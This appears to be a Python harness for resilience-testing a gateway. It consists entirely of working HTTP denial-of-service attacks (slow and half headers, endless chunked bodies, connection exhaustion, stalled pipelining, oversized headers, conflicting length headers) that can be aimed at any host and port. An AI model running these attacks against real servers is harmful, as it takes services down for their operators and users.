"""What strangers on the network do to a listener, as a program of its own: an attack, an address, a number of seconds.

It imports nothing from `gateway`. `innocent` burns the same CPU as an attack does at both ends, and touches nobody.
"""

from __future__ import annotations

import os
import socket
import sys
import time
from collections.abc import Callable
from contextlib import suppress
from typing import Final

Address = tuple[str, int]
Attack = Callable[[Address, Callable[[], bool]], None]
PATHS: Final = ("/healthz", "/readyz", "/metrics", "/openapi.json", "/v1/accounts", "/nowhere")
IDLE: Final = 300
"""Connections: more than a listener keeps."""


def connect(address: Address) -> socket.socket:
    """Connect, with a small buffer for what comes."""
    made = socket.socket()
    made.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    made.settimeout(1.0)
    with suppress(OSError):
        made.connect(address)
    return made


def head(path: str, method: str = "GET", *more: str) -> bytes:
    """Write the head of a request."""
    return "\r\n".join((f"{method} {path} HTTP/1.1", "Host: 127.0.0.1", *more, "", "")).encode()


def bodies(method: str) -> Attack:
    """Send a body of one-byte chunks for ever."""

    def attack(address: Address, goes_on: Callable[[], bool]) -> None:
        for path in PATHS:
            until = time.monotonic() + 0.4
            link: socket.socket | None = None
            while goes_on() and time.monotonic() < until:
                try:
                    if link is None:
                        link = connect(address)
                        link.sendall(head(path, method, "Transfer-Encoding: chunked"))
                    link.sendall(b"1\r\nx\r\n" * 10_000)
                except OSError:
                    if link is not None:
                        link.close()
                    link = None
            if link is not None:
                link.close()
        if goes_on():
            attack(address, goes_on)

    return attack


def held(first: bytes, drip: bytes = b"") -> Attack:
    """Keep many connections, each with the same beginning, and make those anew that are ended."""

    def attack(address: Address, goes_on: Callable[[], bool]) -> None:
        links: list[socket.socket] = []
        while goes_on():
            while len(links) < IDLE and goes_on():
                links.append(connect(address))
                with suppress(OSError):
                    links[-1].sendall(first)
            for link in list(links):
                try:
                    if drip:
                        link.sendall(drip)
                    link.settimeout(0)
                    if not link.recv(65536):
                        raise ConnectionError
                except BlockingIOError:
                    pass
                except OSError:
                    link.close()
                    links.remove(link)
            time.sleep(0.05)

    return attack


def each(sent: bytes) -> Attack:
    """Connect, send this and go away, as fast as can be."""

    def attack(address: Address, goes_on: Callable[[], bool]) -> None:
        while goes_on():
            with connect(address) as link, suppress(OSError):
                link.sendall(sent)
                if sent:
                    link.recv(1000)

    return attack


def stalled(path: str) -> Attack:
    """Ask again and again over some connections, and read nothing."""

    def attack(address: Address, goes_on: Callable[[], bool]) -> None:
        links = [connect(address) for _ in range(50)]
        while goes_on():
            for number, link in enumerate(links):
                try:
                    link.settimeout(0)
                    link.send(head(path) * 200)
                except BlockingIOError:
                    pass
                except OSError:
                    link.close()
                    links[number] = connect(address)
            time.sleep(0.01)

    return attack


def innocent(_: Address, goes_on: Callable[[], bool]) -> None:
    """Burn a core at both ends of nobody: as the attacker, and as a niced process that answers."""
    if os.fork() == 0:
        os.nice(10)
    one, two = socket.socketpair()
    while goes_on():
        one.send(b"x" * 1000)
        bytes(two.recv(1000)).split(b"x")


ATTACKS: Final[dict[str, Attack]] = {
    "innocent": innocent,
    "chunked GET": bodies("GET"),
    "chunked POST": bodies("POST"),
    "idle": held(head("/healthz")),
    "silent": held(b""),
    "half heads": held(b"GET /healthz HTTP/1.1\r\nHost: a\r\nX-A"),
    "slow heads": held(b"GET /healthz HTTP/1.1\r\nHost: a\r\nX-A: ", b"x"),
    "bodies that do not come": held(head("/openapi.json", "GET", "Content-Length: 1")),
    "bodies that do not come, POST": held(head("/v1/accounts/a/reconnect", "POST", "Content-Length: 1")),
    "stalled": stalled("/nowhere"),
    "stalled metrics": stalled("/metrics"),
    "scrapes": each(head("/metrics")),
    "connects": each(b""),
    "HTTP/2": each(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"),
    "TLS": each(b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(500)),
    "huge head": each(b"GET / HTTP/1.1\r\nHost: a\r\n" + b"a:b\r\n" * 40_000 + b"\r\n"),
    "both lengths": each(head("/", "POST", "Content-Length: 1", "Transfer-Encoding: chunked")),
}


def main() -> None:
    """Attack."""
    _, attack, host, port, seconds = sys.argv
    until = time.monotonic() + float(seconds)
    ATTACKS[attack]((host, int(port)), lambda: time.monotonic() < until)


if __name__ == "__main__":
    main()
